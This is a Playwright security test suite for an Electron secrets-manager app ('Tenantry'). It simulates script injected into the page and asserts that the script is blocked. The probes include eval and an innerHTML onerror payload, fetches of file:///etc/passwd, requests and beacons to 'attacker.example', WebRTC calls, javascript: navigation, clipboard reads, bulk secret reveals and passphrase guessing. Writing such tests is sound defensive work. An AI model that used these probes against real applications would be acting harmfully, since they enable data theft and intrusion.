import { createSocket } from 'node:dgram';
import { once } from 'node:events';
import { readdir } from 'node:fs/promises';
import { createServer, type AddressInfo } from 'node:net';
import type { Page } from '@playwright/test';
import { activity as enActivity } from '../../src/shared/messages/en/activity';
import { core as en } from '../../src/shared/messages/en/core';
import { vault as enVault } from '../../src/shared/messages/en/vault';
import { ask } from '../support/ask';
import { nativeDialog, windowNames } from '../support/native-dialog';
import { recordNavigations } from '../support/navigations';
import { startNotifications } from '../support/notifications';
import type { Screen } from '../support/screen';
import { searchText } from '../support/search-bytes';
import { makeCustomers, saveAll, type Customer } from './many';
import { expect, test } from './fixtures';

/*
 * The page, fully taken over: whatever script runs in it, it gets no network, no file, no other window and no bulk of
 * secrets.
 */

const pageUrl = 'tenantry-app://window/index.html';
const form = (page: Page) => page.getByRole('button', { name: en.form.connect, exact: true });

test.describe('a script that got into the page', () => {
  test.use({ expectedProblems: [/./] });

  test('cannot make code from text', async ({ page }) => {
    // From a timer: the debugging protocol's own evaluations are exempt from the ban.
    const outcomes = await page.evaluate(
      () =>
        new Promise<string[]>((resolve) => {
          const attempts: (() => unknown)[] = [
            () => (0, eval)('1') as unknown,
            // eslint-disable-next-line @typescript-eslint/no-implied-eval -- that this is refused is what is tested
            () => new Function('return 1'),
            () => setTimeout('globalThis.ran = true' as unknown as () => void, 0),
            () => {
              document.body.innerHTML = '<img src=x onerror="globalThis.ran = true">';
            },
            () => {
              document.createElement('script').setAttribute('src', 'data:text/javascript,1');
            },
            () => {
              document.createElement('script').text = 'globalThis.ran = true';
            },
            () => new Worker('data:text/javascript,1'),
          ];
          setTimeout(() => {
            resolve(
              attempts.map((attempt) => {
                try {
                  attempt();
                  return 'allowed';
                } catch (error) {
                  return (error as Error).name;
                }
              }),
            );
          }, 0);
        }),
    );
    expect(outcomes).toEqual(
      outcomes.map(() => expect.stringMatching(/^(EvalError|TypeError)$/) as unknown as string),
    );
    expect(await page.evaluate(() => 'ran' in globalThis)).toBe(false);
  });

  test('reaches no host: not by fetch, sockets, beacons, pictures, styles, frames, hints or workers', async ({
    entra,
    page,
  }) => {
    const heard: string[] = [];
    const server = createServer((socket) => {
      heard.push('a connection');
      socket.destroy();
    }).listen(0, '127.0.0.1');
    await once(server, 'listening');
    const local = `127.0.0.1:${(server.address() as AddressInfo).port}`;
    const outcomes = await page.evaluate(
      async (hosts) => {
        const reached: string[] = [];
        const waits: Promise<unknown>[] = [];
        const attempt = (name: string, act: () => Promise<unknown>) => {
          waits.push(
            act().then(
              () => reached.push(name),
              () => undefined,
            ),
          );
        };
        const loaded = (
          element: HTMLElement & { onload: unknown; onerror: unknown },
          where = document.head,
        ) =>
          new Promise((resolve, reject) => {
            element.onload = resolve;
            element.onerror = () => {
              reject(new Error('refused'));
            };
            where.append(element);
          });
        for (const host of hosts) {
          attempt(`fetch ${host}`, () => fetch(`https://${host}/`, { mode: 'no-cors' }));
          attempt('file', () => fetch('file:///etc/passwd'));
          attempt(`plain fetch ${host}`, () => fetch(`http://${host}/`, { mode: 'no-cors' }));
          attempt(`XHR ${host}`, () => {
            const request = new XMLHttpRequest();
            return new Promise((resolve, reject) => {
              request.onload = resolve;
              request.onerror = () => {
                reject(new Error('refused'));
              };
              request.open('GET', `https://${host}/`);
              request.send();
            });
          });
          attempt(`WebSocket ${host}`, () => {
            const socket = new WebSocket(`ws://${host}/`);
            return new Promise((resolve, reject) => {
              socket.onopen = resolve;
              socket.onerror = () => {
                reject(new Error('refused'));
              };
            });
          });
          attempt(`EventSource ${host}`, () => {
            const source = new EventSource(`https://${host}/`);
            return new Promise((resolve, reject) => {
              source.onopen = resolve;
              source.onerror = () => {
                reject(new Error('refused'));
              };
            });
          });
          attempt(`picture ${host}`, () =>
            loaded(Object.assign(new Image(), { src: `http://${host}/x.png` })),
          );
          attempt(`style ${host}`, () =>
            loaded(
              Object.assign(document.createElement('link'), {
                rel: 'stylesheet',
                href: `http://${host}/x.css`,
              }),
            ),
          );
          attempt(`font ${host}`, () => new FontFace('x', `url(http://${host}/x.woff2)`).load());
          attempt(
            `import ${host}`,
            () => import(/* @vite-ignore */ `https://${host}/x.js`) as Promise<unknown>,
          );
          attempt(`worker ${host}`, () => navigator.serviceWorker.register(`https://${host}/x.js`));
          navigator.sendBeacon(`http://${host}/`, 'x');
          for (const rel of [
            'preconnect',
            'dns-prefetch',
            'prefetch',
            'preload',
            'modulepreload',
            'icon',
            'manifest',
          ]) {
            const hint = Object.assign(document.createElement('link'), {
              rel,
              href: `http://${host}/${rel}`,
            });
            if (rel === 'preload') hint.as = 'image';
            document.head.append(hint);
          }
          const frame = document.createElement('iframe');
          frame.src = `http://${host}/`;
          document.body.append(frame);
          const video = document.createElement('video');
          video.src = `http://${host}/x.mp4`;
          document.body.append(video);
        }
        const late = new Promise((resolve) => setTimeout(resolve, 3000));
        await Promise.race([Promise.all(waits), late]);
        return reached;
      },
      [local, 'attacker.example', 'login.microsoftonline.com'],
    );
    expect(outcomes).toEqual([]);
    expect(heard).toEqual([]);
    expect(entra.proxy.carried).toEqual([]);
    expect(entra.proxy.refused).toEqual([]);
    server.close();
  });

  test('reaches no host by WebRTC, over UDP or TCP', async ({ entra, page }) => {
    const heard: string[] = [];
    const udp = createSocket('udp4', () => heard.push('a datagram'));
    udp.bind(0, '127.0.0.1');
    await once(udp, 'listening');
    const tcp = createServer((socket) => {
      heard.push('a connection');
      socket.destroy();
    }).listen(0, '127.0.0.1');
    await once(tcp, 'listening');

    await page
      .evaluate(
        async ([udpPort, tcpPort]) => {
          const turn = { username: 'x', credential: 'x' };
          const peer = new RTCPeerConnection({
            iceServers: [
              { urls: `stun:127.0.0.1:${udpPort}` },
              { urls: `turn:127.0.0.1:${udpPort}?transport=udp`, ...turn },
              { urls: `turn:127.0.0.1:${tcpPort}?transport=tcp`, ...turn },
            ],
          });
          peer.createDataChannel('x');
          const gathered = new Promise<void>((resolve) => {
            peer.onicegatheringstatechange = () => {
              if (peer.iceGatheringState === 'complete') resolve();
            };
          });
          await peer.setLocalDescription(await peer.createOffer()).catch(() => undefined);
          await Promise.race([gathered, new Promise((resolve) => setTimeout(resolve, 3000))]);
          peer.close();
        },
        [udp.address().port, (tcp.address() as AddressInfo).port] as const,
      )
      .catch(() => undefined);
    udp.close();
    tcp.close();
    expect(heard).toEqual([]);
    expect(entra.proxy.refused).toEqual([]);
  });

  test('cannot leave the page, open another, or embed one', async ({ app, page }) => {
    await page.evaluate(() => Object.assign(globalThis, { stillHere: true }));
    const seen = await recordNavigations(app.electronApp);
    for (const target of [
      'https://attacker.example/',
      'https://login.microsoftonline.com/',
      'file:///etc/passwd',
      'data:text/html,hello',
      'tenantry-app://other/index.html',
      'tenantry-app://window/assets/index.js',
      'javascript:globalThis.stillHere=false',
    ]) {
      const opened = await page.evaluate((url) => {
        const attempts: (() => unknown)[] = [
          () => {
            location.href = url;
          },
          () => {
            location.replace(url);
          },
          () => {
            const link = Object.assign(document.createElement('a'), { href: url, textContent: 'x' });
            document.body.append(link);
            link.click();
            link.target = '_blank';
            link.click();
            link.remove();
          },
          () => {
            const sent = Object.assign(document.createElement('form'), { action: url, method: 'post' });
            document.body.append(sent);
            sent.submit();
            sent.remove();
          },
          () => {
            const meta = Object.assign(document.createElement('meta'), {
              httpEquiv: 'refresh',
              content: `0;url=${url}`,
            });
            document.head.append(meta);
          },
          () => {
            const frame = Object.assign(document.createElement('iframe'), { src: url });
            document.body.append(frame);
          },
          () => {
            const view = document.createElement('webview');
            view.setAttribute('src', url);
            document.body.append(view);
          },
        ];
        for (const attempt of attempts) {
          try {
            attempt();
          } catch {
            // refused on the spot, which is as good
          }
        }
        return window.open(url) !== null;
      }, target);
      expect(opened, target).toBe(false);
    }
    // Each navigation that Chromium did not refuse by itself has come to main by now, and was refused there.
    await expect.poll(async () => (await seen()).attempted).toContain('https://attacker.example/');
    expect(await ask(page, 'app', 'info', {})).toMatchObject({ ok: true });
    const { left, windows } = await seen();
    expect(left).toEqual([]);
    expect(windows).toBe(1);
    expect(page.url()).toBe(pageUrl);
    expect(await page.evaluate(() => (globalThis as { stillHere?: boolean }).stillHere)).toBe(true);
  });

  test('that goes to an empty page ends up on ours again, without its own doing', async ({ page }) => {
    await page.evaluate(() => {
      Object.assign(globalThis, { stillHere: true });
      location.href = 'about:blank';
    });
    await expect(form(page)).toBeVisible();
    expect(page.url()).toBe(pageUrl);
    expect(await page.evaluate(() => 'stillHere' in globalThis)).toBe(false);
    expect(await ask(page, 'app', 'info', {})).toMatchObject({ ok: true });
  });

  test('cannot save a file', async ({ app, desk, page }) => {
    await app.electronApp.evaluate(({ session }) => {
      const downloads: string[] = [];
      Object.assign(globalThis, { downloads });
      session.defaultSession.on('will-download', (event, item) => {
        downloads.push(event.defaultPrevented ? 'prevented' : item.getState());
      });
    });
    await page.evaluate(() => {
      for (const href of [URL.createObjectURL(new Blob(['x'])), 'data:application/zip,x', '/index.html']) {
        const link = Object.assign(document.createElement('a'), { href, download: 'saved.txt' });
        document.body.append(link);
        link.click();
      }
    });
    const downloads = () =>
      app.electronApp.evaluate(() => (globalThis as unknown as { downloads: string[] }).downloads);
    await expect.poll(downloads).toContain('prevented');
    expect(new Set(await downloads())).toEqual(new Set(['prevented']));
    const names = await readdir(desk.home, { recursive: true });
    expect(names.filter((name) => name.includes('saved'))).toEqual([]);
  });
});

test.describe('a script that got into the page, with 500 connections kept,', () => {
  test('gets five secrets a minute, each recorded, and announced outside of the page', async ({
    entra,
    desk,
    app,
    page,
  }) => {
    const notifications = await startNotifications(desk);
    try {
      const ids = await saveAll(page, makeCustomers(entra, 500));
      const begun = Date.now();
      const answers = await page.evaluate(async (all) => {
        const { tenantry } = globalThis as unknown as {
          tenantry: { connections: { revealSecret(input: unknown): Promise<Answered> } };
        };
        interface Answered {
          ok: boolean;
          error?: { code: string };
          value?: unknown;
        }
        const oneByOne: Answered[] = [];
        for (const id of all.slice(0, 250)) oneByOne.push(await tenantry.connections.revealSecret({ id }));
        const together = await Promise.all(
          all.slice(250).map((id) => tenantry.connections.revealSecret({ id })),
        );
        return [...oneByOne, ...together].map(({ ok, error }) => (ok ? 'shown' : error?.code));
      }, ids);
      expect(Date.now() - begun, 'all within a minute').toBeLessThan(60_000);
      expect(answers.filter((answer) => answer === 'shown')).toHaveLength(5);
      expect(answers.filter((answer) => answer === 'rate_limited')).toHaveLength(495);

      // A page that begins anew has no more than its predecessor left it.
      await page.reload();
      expect(await ask(page, 'connections', 'revealSecret', { id: ids[0] })).toMatchObject({
        error: { code: 'rate_limited' },
      });

      await notifications.caughtUp();
      const told = () => notifications.announced().filter(({ title }) => title === enActivity.revealTitle);
      await expect.poll(() => told().length).toBe(5);
      const record = await ask(page, 'activity', 'list', { kinds: ['revealed'] });
      expect(record).toMatchObject({ ok: true, value: { total: 5, integrity: { kind: 'whole' } } });
      expect(app.electronApp.windows()).toHaveLength(1);
    } finally {
      await notifications.stop();
    }
  });

  test('puts one secret at a time on the clipboard, and cannot read it there', async ({
    entra,
    app,
    page,
  }) => {
    const customers = makeCustomers(entra, 50);
    const ids = await saveAll(page, customers);
    const copied = await page.evaluate(async (all) => {
      const { tenantry } = globalThis as unknown as {
        tenantry: { connections: { copySecret(input: unknown): Promise<{ ok: boolean }> } };
      };
      const answers = await Promise.all(all.map((id) => tenantry.connections.copySecret({ id })));
      return answers.map((answer) => JSON.stringify(answer)).join();
    }, ids);
    expect(searchText(copied, 'the answers', secretsOf(customers))).toEqual([]);
    const held = await app.electronApp.evaluate(({ clipboard }) => clipboard.readText());
    expect(customers.filter(({ secret }) => held.includes(secret))).toHaveLength(1);

    const read = await page.evaluate(async () => {
      const field = document.createElement('textarea');
      document.body.append(field);
      field.focus();
      // eslint-disable-next-line @typescript-eslint/no-deprecated -- the old way in is one, too
      const pasted = document.execCommand('paste');
      const text = await navigator.clipboard.readText().catch(() => '');
      const items = await navigator.clipboard.read().catch(() => []);
      return { pasted, text, items: items.length, value: field.value };
    });
    expect(read).toEqual({ pasted: false, text: '', items: 0, value: '' });
  });

  test('gets no secret out of any other call, nor out of what it is told unasked', async ({
    entra,
    page,
  }) => {
    const customers = makeCustomers(entra, 20);
    const ids = await saveAll(page, customers);
    const heard = await page.evaluate(
      async ([all, formats]) => {
        type Call = (input: unknown) => Promise<unknown>;
        const { tenantry } = globalThis as unknown as {
          tenantry: Record<string, Record<string, Call>> & {
            on(event: string, listener: (payload: unknown) => void): void;
          };
        };
        const told: unknown[] = [];
        for (const event of ['connections.changed', 'vault.changed', 'verify.progress', 'settings.changed'])
          tenantry.on(event, (payload) => told.push(payload));
        const call = async (group: string, name: string, input: unknown): Promise<void> => {
          told.push(await tenantry[group]?.[name]?.(input));
        };
        for (const name of ['list', 'listText', 'listRemoved']) await call('connections', name, {});
        for (const format of formats) {
          for (const secrets of [true, false])
            await call('transfer', 'preview', { ids: all, format, secrets });
        }
        await call('connections', 'verify', { ids: all });
        await call('connections', 'pin', { ids: all, pinned: true });
        for (const id of all) await call('connections', 'history', { id });
        await call('activity', 'list', {});
        await call('vault', 'status', {});
        await call('vault', 'versions', {});
        await call('settings', 'set', { expiryNotices: false });
        await call('connections', 'remove', { ids: all.slice(1) });
        await call('connections', 'listRemoved', {});
        return { text: JSON.stringify(told), count: told.length };
      },
      [ids, ['shell', 'dotenv', 'json', 'csv', 'bundle', 'postman', 'kubernetes']] as const,
    );
    expect(heard.count).toBeGreaterThan(40);
    expect(heard.text).toContain('Customer 001');
    expect(searchText(heard.text, 'what the page heard', secretsOf(customers))).toEqual([]);
  });

  test('exports secrets only past a question of main’s, and writes nothing without an answer', async ({
    entra,
    desk,
    app,
    page,
    ownScreen,
  }) => {
    const customers = makeCustomers(entra, 3);
    const ids = await saveAll(page, customers);
    const before = await readdir(desk.home, { recursive: true });
    const calls = [
      ['exportToFile', { ids, format: 'dotenv', secrets: true }],
      ['exportToClipboard', { ids: ids.slice(0, 1), format: 'dotenv', secrets: true }],
    ] as const;
    for (const [name, request] of calls) {
      const answer = ask(page, 'transfer', name, request);
      const dialog = await firstDialog(ownScreen);
      // The page has nothing that reaches it: neither keys of its own nor a second call.
      await page.evaluate(() => {
        for (const key of ['Enter', 'Escape', ' ']) {
          document.activeElement?.dispatchEvent(new KeyboardEvent('keydown', { key, bubbles: true }));
        }
      });
      await dialog.press('Escape');
      await dialog.gone();
      expect(await answer, name).toEqual({ ok: true, value: { kind: 'cancelled' } });
    }
    expect(await app.electronApp.evaluate(({ clipboard }) => clipboard.readText())).toBe('');
    const added = (await readdir(desk.home, { recursive: true })).filter((name) => !before.includes(name));
    expect(added.filter((name) => !name.startsWith('.config/') && !name.startsWith('.cache/'))).toEqual([]);
  });

  test('takes nothing away that opens the vault, and guesses no passphrase', async ({
    page,
    entra,
    ownScreen,
  }) => {
    test.setTimeout(150_000);
    await saveAll(page, makeCustomers(entra, 3));
    const [passphrase, other] = ['seven quiet otters paint the harbour', 'nine loud herons leave the river'];
    expect(await ask(page, 'vault', 'setPassphrase', { passphrase, only: false })).toMatchObject({
      ok: true,
    });
    const made = await ask(page, 'vault', 'makeRecoveryKey', {});
    if (!made.ok) throw new Error(made.error.code);
    const keep = ({ handle, key }: { handle: string; key: string }) =>
      ask(page, 'vault', 'keepRecoveryKey', { handle, lastGroup: key.slice(-4) });
    expect(await keep(made.value)).toMatchObject({ ok: true });
    const next = await ask(page, 'vault', 'makeRecoveryKey', {});
    if (!next.ok) throw new Error(next.error.code);

    // It even knows the passphrase: main asks all the same.
    const { questions } = enVault.dialogs;
    const asked = [
      [
        questions.change_passphrase,
        () => ask(page, 'vault', 'setPassphrase', { passphrase: other, current: passphrase, only: false }),
      ],
      [
        questions.require_passphrase,
        () => ask(page, 'vault', 'requirePassphrase', { current: passphrase, only: true }),
      ],
      [questions.remove_passphrase, () => ask(page, 'vault', 'removePassphrase', { current: passphrase })],
      [questions.replace_recovery, () => keep(next.value)],
      [questions.remove_recovery, () => ask(page, 'vault', 'removeRecoveryKey', {})],
    ] as const;
    for (const [{ title }, act] of asked) {
      const answer = act();
      const dialog = await nativeDialog(ownScreen, title, 40_000);
      await dialog.press('Escape');
      expect(await answer, title).toMatchObject({ ok: false, error: { code: 'cancelled' } });
      await dialog.gone();
    }
    expect(await ask(page, 'vault', 'status', {})).toMatchObject({
      value: { ways: { os: true, passphrase: true, recovery: true } },
    });

    expect(await ask(page, 'vault', 'lock', {})).toMatchObject({ value: { appLock: 'person' } });
    const guesses: string[] = [];
    for (let guess = 0; guess < 6; guess += 1) {
      const answer = await ask(page, 'vault', 'unlock', { passphrase: `a guess, number ${guess}` });
      guesses.push(answer.ok ? 'opened' : answer.error.code);
    }
    expect(guesses.slice(0, 3)).toEqual(['wrong_entry', 'wrong_entry', 'wrong_entry']);
    expect(guesses.slice(3)).toEqual(['rate_limited', 'rate_limited', 'rate_limited']);
    // Nor are the other calls that take the passphrase a way around.
    expect(await ask(page, 'vault', 'removePassphrase', { current: 'a guess' })).toMatchObject({
      error: { code: 'locked' },
    });
    expect(await ask(page, 'connections', 'list', {})).toEqual({ ok: false, error: { code: 'locked' } });
  });
});

function secretsOf(customers: readonly Customer[]) {
  return customers.map(({ name, secret }) => ({ name, value: secret }));
}

/** The dialog that stands over the app, whatever its title. */
async function firstDialog(screen: Screen) {
  let title = '';
  await expect
    .poll(async () => (title = (await windowNames(screen)).find((name) => name !== 'Tenantry') ?? ''), {
      timeout: 20_000,
    })
    .not.toBe('');
  return nativeDialog(screen, title);
}
